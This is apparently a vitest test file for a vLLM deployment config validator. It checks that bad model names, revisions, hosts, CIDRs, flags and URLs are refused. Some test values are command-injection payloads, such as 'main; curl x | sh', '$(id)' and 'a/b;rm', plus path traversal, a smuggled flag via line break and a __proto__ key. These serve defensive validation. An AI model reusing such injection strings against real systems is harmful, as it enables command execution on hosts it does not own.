/**
 * Bad input that parses (issue 21 and "first contact" items 9, 17, 19): each kind refused before
 * any resource exists, with the field, the value and what is allowed, over every shipped stack
 * where it applies; and the valid variations of the shipped stacks still plan.
 */
import { setAt } from "./support/plans";
import { describe, expect, it } from "vitest";
import { ConfigError, type Issue } from "../config/errors";
import { readStackFile, splitNamespace, stackNames } from "../config/stack-file";
import { planStack, type PlanOptions } from "../plan";
import { RENDERED_FLAGS } from "../plan/vllm-args";
import { VLLM_FLAG_SPANS } from "../catalogs/vllm-flags";
import { parse as parseYaml } from "yaml";

type Raw = Record<string, Record<string, unknown>>;

/** A shipped stack's sections, as a fresh copy to change. */
function stack(name: string): Raw {
  return structuredClone(readStackFile(name).sections) as Raw;
}
const STACKS = stackNames();
const AWS = STACKS.filter((s) => stack(s)["target"]!["kind"] === "aws");
const HOSTS = STACKS.filter((s) => stack(s)["target"]!["kind"] === "hosts");
const CUSTOM = STACKS.filter((s) => stack(s)["model"]!["custom"] !== undefined);
const CATALOG = STACKS.filter((s) => stack(s)["model"]!["id"] !== undefined);
const APIKEY = { apiKey: "config:apiKey" };
const KEYS = new Set(["apiKey"]);

/** Every issue of a raw config, or [] when it plans. */
function issuesOf(raw: Raw, opts: PlanOptions = {}): Issue[] {
  try {
    planStack(raw, opts);
    return [];
  } catch (e) {
    if (e instanceof ConfigError) return [...e.issues];
    throw e;
  }
}

function at(issues: Issue[], path: string): Issue[] {
  return issues.filter((i) => i.path === path);
}

describe("the shipped stacks", () => {
  it("are the six, with AWS, hosts, catalog and custom models among them", () => {
    expect(AWS).toEqual(["large", "multi-gpu", "single-gpu"]);
    expect(HOSTS).toEqual(["hosts", "lab", "lab-single"]);
    expect(CUSTOM).toEqual(["lab", "lab-single"]);
    expect(CATALOG.length).toBe(4);
  });
});

describe("1. free text: no control characters anywhere, strict patterns where it reaches a node", () => {
  /** The free-text fields of a stack, with a valid value each. */
  function textFields(name: string): [string, string][] {
    const s = stack(name);
    const t = s["target"]!;
    const fields: [string, string][] = [
      ["model.servedModelName", "qwen"],
      ["vllm.extraArgs.0", "--seed"],
      ["provisioning.hfEndpoint", "https://hub.example.com"],
      ["provisioning.pythonIndexUrl", "https://pypi.example.com/simple"],
      ["provisioning.mirrorUrl", "https://mirror.example.com/{repo}/{revision}"],
      ["secrets.hfToken", "file:/run/hf-token"],
    ];
    if (s["model"]!["custom"]) fields.push(["model.custom.name", "lab/x"]);
    if (t["kind"] === "hosts")
      fields.push(
        ["target.hosts.0.address", "192.0.2.50"],
        ["target.hosts.0.privateAddress", "10.0.0.50"],
        ["target.hosts.0.networkInterface", "eth0"],
        ["target.sshPrivateKeyPath", "~/.ssh/id_ed25519"],
        ["target.knownHostsPath", "~/.ssh/known_hosts"],
      );
    return fields;
  }
  const toPath = (p: string) => p.replace(/\.(\d+)(?=\.|$)/g, "[$1]");
  const bad = ["\n--gpu-memory-utilization\n0.99", "\r", "\u0000", "\t", "\u2028", "\u007f"];

  for (const name of STACKS)
    it(`${name}: a line break, NUL, tab or other control character in any free-text field is one error at that field`, () => {
      for (const [field, ok] of textFields(name)) {
        expect(issuesOf(setAt(stack(name), field, ok), {}).map((i) => i.path)).not.toContain(
          toPath(field),
        );
        for (const b of bad) {
          const issues = at(issuesOf(setAt(stack(name), field, `${ok}${b}`)), toPath(field));
          expect(issues, `${field} with ${JSON.stringify(b)}`).toHaveLength(1);
          expect(issues[0]!.message).toMatch(/control character.*allowed: printable characters/);
        }
        const blank = at(issuesOf(setAt(stack(name), field, "   ")), toPath(field));
        expect(blank.length, `${field} blank`).toBeGreaterThanOrEqual(1);
      }
    });

  it("the weights folder and served name take the hub's repo-id rule (huggingface_hub validate_repo_id)", () => {
    const named = (n: string) =>
      at(issuesOf(setAt(stack("lab"), "model.custom.name", n)), "model.custom.name");
    for (const good of [
      "lab/Qwen2-VL-7B-standin",
      "Qwen2-VL",
      "org_1/model.v2",
      "a/b",
      `a/${"x".repeat(96)}`,
    ])
      expect(named(good), good).toEqual([]);
    for (const bad of [
      "lab/x--y",
      "lab/../x",
      "-lab/x",
      "lab/x-",
      "a/b/c",
      "a/b.git",
      "/abs",
      "a b/c",
      "a/b;rm",
      `a/${"x".repeat(97)}`,
      "lab/x$(id)",
    ]) {
      const issues = named(bad);
      expect(issues, bad).toHaveLength(1);
      expect(issues[0]!.message).toMatch(/Hugging Face repository id/);
    }
  });
});

describe("1. the model revision reaches the hub download's command line", () => {
  for (const name of STACKS)
    it(`${name}: a git ref's characters only, even with allowFloatingRevision`, () => {
      const floating = (revision: string) =>
        setAt(setAt(stack(name), "model.revision", revision), "model.allowFloatingRevision", true);
      for (const bad of ["main; curl x | sh", "$(id)", "v1 .0", "../../etc", "-main"]) {
        const issues = at(issuesOf(floating(bad)), "model.revision");
        expect(issues, bad).toHaveLength(1);
        expect(issues[0]!.message).toMatch(/a branch or tag name: A-Z a-z 0-9/);
      }
      for (const ok of ["main", "v1.0", "refs/pr/1"])
        expect(at(issuesOf(floating(ok)), "model.revision"), ok).toEqual([]);
    });
});

describe("2. a __proto__ key is an unknown key at every level", () => {
  it("at the top level of the namespace: an unknown section, not the others' prototype", () => {
    const doc = parseYaml(`config:
  qwen-vl-deploy:__proto__: { vllm: { maxModelLen: 9 } }
  qwen-vl-deploy:model: { id: Qwen/Qwen2-VL-7B-Instruct, revision: a7a06a1cc11b4514ce9edcde0e3ca1d16e5ff2fc }
  qwen-vl-deploy:target: { kind: aws, region: us-east-1, instanceType: g5.xlarge }
  qwen-vl-deploy:vllm: { maxPixels: 1003520 }
`) as { config: Record<string, unknown> };
    const raw = splitNamespace(doc.config, "qwen-vl-deploy");
    expect(Object.getPrototypeOf(raw.sections)).toBe(Object.prototype);
    const issues = issuesOf(raw.sections as Raw);
    expect(issues.map((i) => [i.path, i.message.split(";")[0]])).toEqual([
      ["__proto__", "unknown section"],
    ]);
  });

  it("a YAML alias that makes a value contain itself is an error with its path, not a crash", () => {
    const doc = parseYaml(`config:
  qwen-vl-deploy:model: { id: Qwen/Qwen2-VL-7B-Instruct, revision: a7a06a1cc11b4514ce9edcde0e3ca1d16e5ff2fc }
  qwen-vl-deploy:target: &t { kind: aws, region: us-east-1, instanceType: g5.xlarge, loop: *t }
  qwen-vl-deploy:vllm: { maxPixels: 1003520 }
`) as { config: Record<string, unknown> };
    const raw = splitNamespace(doc.config, "qwen-vl-deploy").sections as Raw;
    let error: unknown;
    try {
      planStack(raw);
    } catch (e) {
      error = e;
    }
    expect(error).toBeInstanceOf(ConfigError);
    expect((error as ConfigError).message).toMatch(
      /target\.loop: \{… \(refers to itself\)\} — unknown key/,
    );
  });

  for (const name of STACKS)
    it(`${name}: in every section and nested object`, () => {
      const s = stack(name);
      const places = Object.keys(s).map((k) => k);
      if (s["target"]!["kind"] === "hosts") places.push("target.hosts.0");
      if (s["model"]!["custom"]) places.push("model.custom");
      for (const place of places) {
        const raw = stack(name);
        const obj = place
          .split(".")
          .reduce<Record<string, unknown>>((o, k) => o[k] as Record<string, unknown>, raw);
        // As JSON.parse and YAML give it: an own key named __proto__.
        Object.defineProperty(obj, "__proto__", {
          value: { x: 1 },
          enumerable: true,
          configurable: true,
          writable: true,
        });
        const issues = at(issuesOf(raw), `${place.replace(/\.(\d+)/g, "[$1]")}.__proto__`);
        expect(issues, place).toHaveLength(1);
        expect(issues[0]!.message).toMatch(/^unknown key; allowed: [a-z]/);
      }
    });
});

describe("3. CIDRs: host bits, duplicates, SSH judged by the addresses that reach it", () => {
  for (const name of AWS)
    it(`${name}: refused with the network address to write, each duplicate, and a wide SSH union`, () => {
      const hostBits = issuesOf(
        setAt(setAt(stack(name), "network.sshCidrs", ["203.0.113.7/24"]), "secrets", APIKEY),
        { secretKeys: KEYS },
      );
      expect(at(hostBits, "network.sshCidrs[0]")[0]!.message).toMatch(
        /host bits set.*write 203\.0\.113\.0\/24.*or 203\.0\.113\.7\/32/,
      );
      const apiHostBits = at(
        issuesOf(
          setAt(setAt(stack(name), "network.apiCidrs", ["198.51.100.7/8"]), "secrets", APIKEY),
          {
            secretKeys: KEYS,
          },
        ),
        "network.apiCidrs[0]",
      );
      expect(apiHostBits[0]!.message).toMatch(/write 198\.0\.0\.0\/8/);
      const dup = issuesOf(
        setAt(stack(name), "network.sshCidrs", [
          "203.0.113.0/24",
          "198.51.100.9/32",
          "203.0.113.0/24",
        ]),
      );
      expect(dup.map((i) => i.path)).toEqual(["network.sshCidrs[2]"]);
      expect(dup[0]!.message).toMatch(/repeats entry \[0\].*InvalidPermission\.Duplicate/);
      // 198.0.0.0/8 holds the reserved 198.18.0.0/15 and stays under the world's /8: still 16.6 M.
      const wide = at(
        issuesOf(setAt(stack(name), "network.sshCidrs", ["198.0.0.0/8"])),
        "network.sshCidrs",
      );
      expect(wide[0]!.message).toMatch(/16,646,144 public addresses reach SSH; allowed: at most/);
      expect(
        at(issuesOf(setAt(stack(name), "network.sshCidrs", ["203.0.0.0/15"])), "network.sshCidrs"),
      ).toHaveLength(1);
      for (const ok of [["203.0.113.7/32"], ["203.0.0.0/16"], ["10.0.0.0/8", "203.0.113.0/24"]])
        expect(issuesOf(setAt(stack(name), "network.sshCidrs", ok)), ok.join()).toEqual([]);
    });
});

describe("extraArgs around the rendered flags (items 4–8)", () => {
  const withArgs = (name: string, args: string[], vllm: Record<string, unknown> = {}) => {
    const s = stack(name);
    s["vllm"] = { ...s["vllm"], ...vllm, extraArgs: args };
    return issuesOf(s);
  };
  const negatable = Object.keys(RENDERED_FLAGS).filter(
    (f) => VLLM_FLAG_SPANS[`--no-${f.slice(2)}`],
  );

  for (const name of STACKS) {
    it(`${name}: 4. the negation of a rendered flag, in every spelling`, () => {
      expect(negatable).toEqual(
        expect.arrayContaining(["--enforce-eager", "--disable-custom-all-reduce"]),
      );
      for (const f of negatable)
        for (const spelled of [`--no-${f.slice(2)}`, `--no_${f.slice(2).replace(/-/g, "_")}`]) {
          const issues = at(withArgs(name, [spelled]), "vllm.extraArgs[0]");
          expect(issues, spelled).toHaveLength(1);
          expect(issues[0]!.message).toMatch(new RegExp(`negates ${f}, which is rendered from`));
        }
    });

    it(`${name}: 5. data parallelism, long, short or with =`, () => {
      for (const args of [
        ["--data-parallel-size", "2"],
        ["-dp", "2"],
        ["--data-parallel-size=2"],
        ["--data_parallel_size", "2"],
        ["-dpl", "2"],
      ]) {
        const issues = at(withArgs(name, args), "vllm.extraArgs[0]");
        expect(issues, args.join(" ")).toHaveLength(1);
        expect(issues[0]!.message).toMatch(/target\.replicas/);
      }
    });

    it(`${name}: 6. a value on a flag that takes none, inline or after it`, () => {
      for (const args of [
        ["--enable-prefix-caching=true"],
        ["--enable-prefix-caching=false"],
        ["--no-enable-prefix-caching=False"],
        ["--trust-remote-code=1"],
      ]) {
        const issues = at(withArgs(name, args), "vllm.extraArgs[0]");
        expect(issues, args[0]).toHaveLength(1);
        expect(issues[0]!.message).toMatch(/takes no value.*ignored explicit argument/);
      }
      const stray = at(withArgs(name, ["--enable-prefix-caching", "true"]), "vllm.extraArgs[1]");
      expect(stray[0]!.message).toMatch(/follows --enable-prefix-caching, which takes no value/);
      for (const args of [
        ["--enable-prefix-caching"],
        ["--no-enable-prefix-caching"],
        ["--seed", "7"],
        ["--seed=7"],
        ["--max-logprobs", "5"],
      ])
        expect(withArgs(name, args), args.join(" ")).toEqual([]);
    });

    it(`${name}: 7. a value with a line break (it would split in run-vllm.sh)`, () => {
      const issues = at(
        withArgs(name, ["--chat-template", "{% for m in messages %}\n{{ m }}{% endfor %}"]),
        "vllm.extraArgs[1]",
      );
      expect(issues).toHaveLength(1);
      expect(issues[0]!.message).toMatch(/control character/);
    });
  }

  // The V1 engine (0.11 and 0.31 here) is where these flags exist.
  for (const name of STACKS)
    it(`${name}: 8. chunked prefill off with a batch below the context, chunked images off with a batch below one image`, () => {
      const len = stack(name)["vllm"]!["maxModelLen"] as number;
      const off = at(
        withArgs(name, ["--no-enable-chunked-prefill"], { maxNumBatchedTokens: 2048 }),
        "vllm.extraArgs[0]",
      );
      expect(off[0]!.message).toMatch(
        new RegExp(`vllm.maxNumBatchedTokens \\(2048\\) < maxModelLen \\(${len}\\)`),
      );
      expect(withArgs(name, ["--no-enable-chunked-prefill"], { maxNumBatchedTokens: len })).toEqual(
        [],
      );
      // Without a budget of its own, vLLM sizes the batch to the context: nothing to refuse.
      expect(withArgs(name, ["--no-enable-chunked-prefill"])).toEqual([]);
      const mm = at(
        withArgs(name, ["--disable-chunked-mm-input"], { maxNumBatchedTokens: 128 }),
        "vllm.extraArgs[0]",
      );
      expect(mm[0]!.message).toMatch(
        /one image at maxPixels is \d+ tokens > max_num_batched_tokens \(128\)/,
      );
      expect(withArgs(name, ["--disable-chunked-mm-input"], { maxNumBatchedTokens: 4096 })).toEqual(
        [],
      );
    });
});

describe("the plan combines its facts (items 9–13)", () => {
  for (const name of STACKS)
    it(`${name}: 9. a context shorter than one full-size image is refused`, () => {
      // 128 tokens: fewer than one image at any stack's maxPixels (the lab's tiny model: 256).
      const s = setAt(setAt(stack(name), "vllm.maxModelLen", 128), "vllm.imageLimit", 1);
      const issues = at(issuesOf(s), "vllm.maxModelLen");
      expect(issues[0]!.message).toMatch(
        /one image at maxPixels \d+ is \d+ visual tokens, more than the whole context.*raise vllm\.maxModelLen to ≥ \d+/,
      );
    });

  for (const name of AWS)
    it(`${name}: 10. installDriver false on an image without the driver`, () => {
      const s = setAt(
        setAt(stack(name), "provisioning.installDriver", false),
        "target.ami",
        "ubuntu-22.04",
      );
      expect(at(issuesOf(s), "provisioning.installDriver")[0]!.message).toMatch(
        /ubuntu-22\.04 has no NVIDIA driver/,
      );
      expect(issuesOf(setAt(stack(name), "provisioning.installDriver", false))).toEqual([]);
      expect(
        issuesOf(
          setAt(setAt(s, "target.amiId", "ami-0123456789abcdef0"), "target.ami", "ubuntu-22.04"),
        ),
      ).toEqual([]);
    });

  for (const name of CATALOG)
    it(`${name}: 11. the model changed, the other model's known revision kept`, () => {
      const s = stack(name);
      const other =
        s["model"]!["id"] === "Qwen/Qwen2-VL-72B-Instruct"
          ? "Qwen/Qwen2-VL-7B-Instruct"
          : "Qwen/Qwen2-VL-72B-Instruct";
      const issues = at(issuesOf(setAt(s, "model.id", other)), "model.revision");
      expect(issues[0]!.message).toMatch(
        new RegExp(
          `is a commit of Qwen/Qwen2-VL-\\d+B-Instruct, not of ${other.replace(/[/.]/g, "\\$&")}`,
        ),
      );
    });

  for (const name of CUSTOM)
    it(`${name}: 12. custom dimensions vLLM cannot build`, () => {
      const problems = (custom: Record<string, unknown>) => {
        const s = stack(name);
        s["model"]!["custom"] = { ...(s["model"]!["custom"] as object), ...custom };
        return issuesOf(s).map((i) => `${i.path}: ${i.message}`);
      };
      const given = stack(name)["model"]!["custom"] as {
        hiddenSize: number;
        attentionHeads: number;
      };
      const head = given.hiddenSize / given.attentionHeads;
      expect(problems({ headDim: head * 2 })).toEqual([
        expect.stringMatching(
          new RegExp(
            `^model\\.custom\\.headDim: .*hiddenSize / attentionHeads \\(${given.hiddenSize} / ${given.attentionHeads}\\).*allowed: ${head}`,
          ),
        ),
      ]);
      expect(
        problems({ moe: { experts: 8, activeExperts: 2, expertIntermediateSize: 768 } }),
      ).toEqual([expect.stringMatching(/^model\.custom\.moe: .*dense architecture/)]);
      expect(
        problems({
          architecture: "Qwen3VLMoeForConditionalGeneration",
          moe: { experts: 8, activeExperts: 9, expertIntermediateSize: 768 },
        }),
      ).toContainEqual(
        expect.stringMatching(/^model\.custom\.moe\.activeExperts: exceeds the 8 experts/),
      );
      expect(problems({ quantization: { method: "awq", bits: 8 } })).toContainEqual(
        expect.stringMatching(/^model\.custom\.quantization\.bits: .*AWQ is 4-bit only/),
      );
      expect(problems({ quantization: { method: "fp8", bits: 4 } })).toContainEqual(
        expect.stringMatching(/^model\.custom\.quantization\.bits: FP8 is 8 bits/),
      );
      expect(problems({ headDim: head })).toEqual([]);
    });

  for (const name of STACKS)
    it(`${name}: 13. a file: secret that is not there, when the caller can look`, () => {
      const s = setAt(stack(name), "secrets.hfToken", "file:/nonexistent/qwen-vl/hf-token");
      const issues = at(issuesOf(s, { fileExists: () => false }), "secrets.hfToken");
      expect(issues[0]!.message).toMatch(
        /\/nonexistent\/qwen-vl\/hf-token, which is not a readable file/,
      );
      expect(issuesOf(s, { fileExists: () => true })).toEqual([]);
      expect(issuesOf(s)).toEqual([]);
    });
});

describe("14. hosts", () => {
  for (const name of HOSTS)
    it(`${name}: an address with a port, scheme, user or spaces; the SSH port as the API's; the .pub key`, () => {
      for (const [address, why] of [
        ["192.0.2.10:22", /carries a port; give it as the host's "port" key/],
        ["ssh://192.0.2.10", /carries a URL scheme/],
        ["root@192.0.2.10", /carries a user; give it as the host's "user" key/],
        ["192.0.2.10 ", /leading or trailing spaces/],
        ["192.0.2.300", /not a valid IPv4 address/],
        ["host_name.example", /allowed: an IPv4 or IPv6 address or a DNS name/],
      ] as const) {
        const issues = at(
          issuesOf(setAt(stack(name), "target.hosts.0.address", address)),
          "target.hosts[0].address",
        );
        expect(issues, address).toHaveLength(1);
        expect(issues[0]!.message).toMatch(why);
      }
      for (const ok of ["gpu-box.example.com", "2001:db8::10", "192.0.2.99"])
        expect(
          at(issuesOf(setAt(stack(name), "target.hosts.0.address", ok)), "target.hosts[0].address"),
          ok,
        ).toEqual([]);
      const port = issuesOf(
        setAt(setAt(stack(name), "target.hosts.0.port", 2222), "vllm.port", 2222),
      );
      expect(at(port, "vllm.port")[0]!.message).toMatch(/SSH port/);
      const pub = at(
        issuesOf(setAt(stack(name), "target.sshPrivateKeyPath", "~/.ssh/id_ed25519.pub")),
        "target.sshPrivateKeyPath",
      );
      expect(pub[0]!.message).toMatch(/public half \(\.pub\)/);
    });

  it("lab: the same address twice, the same private address, or loopback in a multi-node group", () => {
    const hosts = () => stack("lab")["target"]!["hosts"] as Record<string, unknown>[];
    const dup = hosts();
    dup[2]!["address"] = dup[0]!["address"];
    expect(
      at(issuesOf(setAt(stack("lab"), "target.hosts", dup)), "target.hosts[2].address")[0]!.message,
    ).toMatch(/is hosts\[0\]'s address and port too/);
    const priv = hosts();
    priv[1]!["privateAddress"] = "10.77.0.11";
    expect(
      at(issuesOf(setAt(stack("lab"), "target.hosts", priv)), "target.hosts[1].privateAddress")[0]!
        .message,
    ).toMatch(/hosts\[0\] has inside the cluster/);
    for (const loop of ["127.0.0.1", "localhost", "::1"]) {
      const l = hosts();
      l[1]!["address"] = loop;
      expect(
        at(issuesOf(setAt(stack("lab"), "target.hosts", l)), "target.hosts[1].address")[0]!.message,
        loop,
      ).toMatch(/loopback address/);
    }
    // SSH through a tunnel on this machine, the cluster on the shared network: fine.
    const tunnel = hosts();
    tunnel[1]!["address"] = "127.0.0.1";
    tunnel[1]!["port"] = 2201;
    tunnel[1]!["privateAddress"] = "10.77.0.12";
    expect(issuesOf(setAt(stack("lab"), "target.hosts", tunnel))).toEqual([]);
    // One node: loopback is where it is.
    expect(issuesOf(setAt(stack("lab-single"), "target.hosts.0.address", "127.0.0.1"))).toEqual([]);
  });
});

/** An OpenSSH public key line of `type` with a well-formed blob (the type, then filler). */
function keyLine(type: string, extra: number): string {
  const name = Buffer.from(type);
  const len = Buffer.alloc(4);
  len.writeUInt32BE(name.length);
  const blob = Buffer.concat([len, name, Buffer.alloc(extra, 7)]);
  let b64 = blob.toString("base64");
  while (b64.length % 4) b64 += "=";
  return `${type} ${b64} me@example`;
}

describe("15. AWS", () => {
  for (const name of AWS)
    it(`${name}: zone letters, certificate region and shape, spot floor, Capacity Block types, ECDSA keys`, () => {
      // Other partitions are served (every ARN is the stack's partition: test/aws.test.ts GovCloud).
      expect(
        at(issuesOf(setAt(stack(name), "target.region", "us-gov-west-1")), "target.region"),
      ).toEqual([]);
      expect(
        at(
          issuesOf(setAt(stack(name), "target.availabilityZone", "us-east-1g")),
          "target.availabilityZone",
        )[0]!.message,
      ).toMatch(/no region has a zone "g"/);
      expect(issuesOf(setAt(stack(name), "target.availabilityZone", "us-east-1f"))).toEqual([]);
      const cert = (arn: string) =>
        at(
          issuesOf(setAt(setAt(stack(name), "network.certificateArn", arn), "target.replicas", 2)),
          "network.certificateArn",
        );
      expect(
        cert(
          "arn:aws:acm:eu-west-1:123456789012:certificate/0b3f0a7e-1c2d-4e5f-8a9b-0c1d2e3f4a5b",
        )[0]!.message,
      ).toMatch(/certificate of eu-west-1.*its own region/);
      expect(cert("arn:aws:acm:us-east-1:123456789012:certificate/0b3f0a7e")[0]!.message).toMatch(
        /ACM certificate ARN/,
      );
      expect(
        cert("arn:aws:acm:us-east-1:123456789012:certificate/0b3f0a7e-1c2d-4e5f-8a9b-0c1d2e3f4a5b"),
      ).toEqual([]);
      const spot = (p: number) =>
        at(
          issuesOf(setAt(stack(name), "target.spot", { enabled: true, maxPriceUsdPerHour: p })),
          "target.spot.maxPriceUsdPerHour",
        );
      expect(spot(0.0005)[0]!.message).toMatch(/below EC2's lowest spot price, USD 0\.001/);
      expect(spot(0.001)).toEqual([]);
      const block = setAt(
        setAt(stack(name), "target.capacityBlock", true),
        "target.capacityReservationId",
        "cr-0123456789abcdef0",
      );
      const it = stack(name)["target"]!["instanceType"];
      if (it === "p5.48xlarge") expect(issuesOf(block)).toEqual([]);
      else
        expect(at(issuesOf(block), "target.capacityBlock")[0]!.message).toMatch(
          /not sold as Capacity Blocks.*p5\.48xlarge/,
        );
      const ecdsa = at(
        issuesOf(setAt(stack(name), "target.sshPublicKey", keyLine("ecdsa-sha2-nistp256", 80))),
        "target.sshPublicKey",
      );
      expect(ecdsa[0]!.message).toMatch(/ECDSA key, which EC2 does not import/);
      expect(
        issuesOf(setAt(stack(name), "target.sshPublicKey", keyLine("ssh-ed25519", 36))),
      ).toEqual([]);
    });
});

describe("first contact 9, 17, 19", () => {
  it("9. multi-gpu's half precision on T4s is said before anything exists, with its evidence and the ways out", () => {
    const raw = readStackFile("multi-gpu");
    const p = planStack(raw.sections, { secretKeys: raw.secretKeys });
    expect(p.warnings).toEqual([
      expect.stringMatching(
        /float16 \("half"\) on T4.*runs of "!".*transformers#33294.*vllm#14126.*AWQ\/GPTQ variant \(made for fp16: Qwen\/Qwen2-VL-7B-Instruct-AWQ\).*float32.*bf16/,
      ),
    ]);
    // bf16 cards, and AWQ checkpoints (made for fp16), say nothing.
    for (const name of ["single-gpu", "large", "hosts"])
      expect(planStack(stack(name)).warnings, name).toEqual([]);
  });

  for (const name of STACKS)
    it(`${name}: 17. credentials inside an index, find-links, mirror or hub URL`, () => {
      for (const [field, url] of [
        ["provisioning.pythonIndexUrl", "https://user:pass@pypi.example.com/simple"],
        ["provisioning.pythonFindLinks", "https://wheels.example.com/?token=abc"],
        ["provisioning.mirrorUrl", "https://mirror.example.com/{repo}?X-Amz-Signature=abc"],
        ["provisioning.mirrorUrl", "s3://bucket/prefix?access_token=abc"],
        ["provisioning.hfEndpoint", "https://ghp@hub.example.com"],
        ["provisioning.pythonIndexUrl", "https://pypi.example.com/simple?a=1&api_key=abc"],
        ["provisioning.mirrorUrl", "https://blob.example.net/m/{repo}?sv=2024&sig=abc"],
      ]) {
        const s = setAt(stack(name), field!, url);
        if (field === "provisioning.pythonIndexUrl") delete s["provisioning"]!["pythonFindLinks"];
        const issues = at(issuesOf(s), field!);
        expect(issues, url).toHaveLength(1);
        expect(issues[0]!.message).toMatch(/world-readable node\.env.*secrets\.hfToken/);
      }
      // Parameters that only look alike are not credentials.
      for (const url of [
        "https://hub.example.com/?revision=main",
        "https://hub.example.com/?keyword=qwen&monkey=1",
        "https://hub.example.com/?tokenizer=fast",
      ])
        expect(
          at(
            issuesOf(setAt(stack(name), "provisioning.hfEndpoint", url)),
            "provisioning.hfEndpoint",
          ),
          url,
        ).toEqual([]);
    });

  for (const name of AWS)
    it(`${name}: 19. an API open to any CIDR needs secrets.apiKey`, () => {
      const s = setAt(stack(name), "network.apiCidrs", ["203.0.113.0/24"]);
      expect(at(issuesOf(s), "secrets.apiKey")[0]!.message).toMatch(
        /required when network\.apiCidrs opens the API \(203\.0\.113\.0\/24\)/,
      );
      expect(issuesOf(setAt(s, "secrets", APIKEY), { secretKeys: KEYS })).toEqual([]);
    });
});
